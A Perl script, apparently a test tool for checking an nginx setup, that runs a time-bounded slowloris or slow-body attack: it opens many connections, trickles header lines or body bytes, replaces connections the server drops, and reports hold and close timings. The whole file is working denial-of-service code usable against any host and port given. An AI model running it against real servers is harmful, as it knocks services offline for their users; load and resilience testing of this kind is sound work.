#!/usr/bin/perl
# A slow client, bounded: opens CONNS connections to HOST:PORT and keeps
# each busy for SECONDS seconds at most, then closes everything. MODE:
#   headers  (default) sends the start of a request ("GET / HTTP/1.1", Host,
#            no end of headers) and then one more header line every INTERVAL
#            seconds, never finishing the headers (slowloris);
#   body     sends a complete "GET /" header block announcing
#            "Content-Length: 1000", then one body byte every INTERVAL
#            seconds (a slow body). Every other connection names a Host
#            nginx does not serve, so both of its servers are tried. A
#            connection the server closes is replaced at once, as an
#            attacker would, so CONNS are attempted until the end.
# Reports one line:
#   opened=N refused=N closed_by_server=N answered=N first_close=S last_close=S
#   still_open=N longest_hold=S oldest_open=S
# (opened counts the replacements too; first_close and last_close in seconds
# from the first connection; longest_hold: the longest time from a
# connection's opening to the server closing it, - when the server closed
# none; oldest_open: the age of the oldest connection still open at the end,
# - when none was).
# Runs in the tools image (perl-base only).
#
#   perl slowloris.pl HOST PORT CONNS SECONDS INTERVAL [MODE]
use strict;
use warnings;
use IO::Socket::INET;
use IO::Select;
use Time::HiRes qw(time);

my ($host, $port, $conns, $seconds, $interval, $mode) = @ARGV;
$mode //= 'headers';
die "MODE must be headers or body\n" unless $mode eq 'headers' || $mode eq 'body';
$SIG{PIPE} = 'IGNORE';
my $start = time;
my (%open, %opened_at, $refused, @closes, $answered, $longest_hold);
$refused = 0;
$answered = 0;

my $opened = 0;
my $select = IO::Select->new;

sub open_one {
    my $i = ++$opened;
    my $sock = IO::Socket::INET->new(PeerAddr => $host, PeerPort => $port, Proto => 'tcp', Timeout => 3);
    if (!$sock) { $refused++; $opened--; return; }
    binmode $sock;
    if ($mode eq 'body') {
        my $name = $i % 2 ? 'localhost' : 'unknown.invalid';
        syswrite($sock, "GET / HTTP/1.1\r\nHost: $name\r\nX-Slow-Body: $i\r\nContent-Length: 1000\r\n\r\n");
    } else {
        syswrite($sock, "GET / HTTP/1.1\r\nHost: localhost\r\nX-Slowloris: $i\r\n");
    }
    $open{fileno $sock} = $sock;
    $opened_at{fileno $sock} = time;
    $select->add($sock);
}

for (1 .. $conns) {
    last if time - $start > $seconds / 2;
    open_one();
}
my $next_send = time + $interval;
my $line = 0;

sub closed_by_server {
    my $sock = shift;
    my $now = time;
    my $hold = $now - $opened_at{fileno $sock};
    $longest_hold = $hold if !defined $longest_hold || $hold > $longest_hold;
    $select->remove($sock);
    delete $open{fileno $sock};
    close $sock;
    push @closes, $now - $start;
}

# Replacements wait in $owed and are opened at most 50 per pass, so that a
# wave of closes does not keep the loop from noticing the next ones (the
# hold times it reports are its own measurements).
my $owed = 0;
while (time - $start < $seconds && (%open || $owed)) {
    my $wait = $owed ? 0 : $next_send - time;
    $wait = 0 if $wait < 0;
    for my $sock ($select->can_read($wait)) {
        # An answer (nginx's 400 to a body) may come before the close: read
        # until the end, or until nothing more is there for now.
        my $read = sysread($sock, my $chunk, 4096);
        if ($read) {
            $answered++ unless ${*$sock}{answered}++;
            next;
        }
        closed_by_server($sock);
        $owed++ if $mode eq 'body';
    }
    $owed = 0 if time - $start >= $seconds - 1;
    for (1 .. ($owed < 50 ? $owed : 50)) {
        $owed--;
        open_one();
    }
    if (time >= $next_send) {
        $line++;
        for my $sock (values %open) {
            my $more = $mode eq 'body' ? 'x' : "X-Slow-$line: $line\r\n";
            my $written = syswrite($sock, $more);
            next if defined $written && $written > 0;
            closed_by_server($sock);
            $owed++ if $mode eq 'body';
        }
        $next_send = time + $interval;
    }
}
my $still = keys %open;
my $oldest_open;
for my $fd (keys %open) {
    my $age = time - $opened_at{$fd};
    $oldest_open = $age if !defined $oldest_open || $age > $oldest_open;
}
close $_ for values %open;
@closes = sort { $a <=> $b } @closes;
printf "opened=%d refused=%d closed_by_server=%d answered=%d first_close=%s last_close=%s still_open=%d longest_hold=%s oldest_open=%s\n",
    $opened, $refused, scalar @closes, $answered,
    (@closes ? sprintf('%.1f', $closes[0]) : '-'), (@closes ? sprintf('%.1f', $closes[-1]) : '-'), $still,
    (defined $longest_hold ? sprintf('%.1f', $longest_hold) : '-'),
    (defined $oldest_open ? sprintf('%.1f', $oldest_open) : '-');
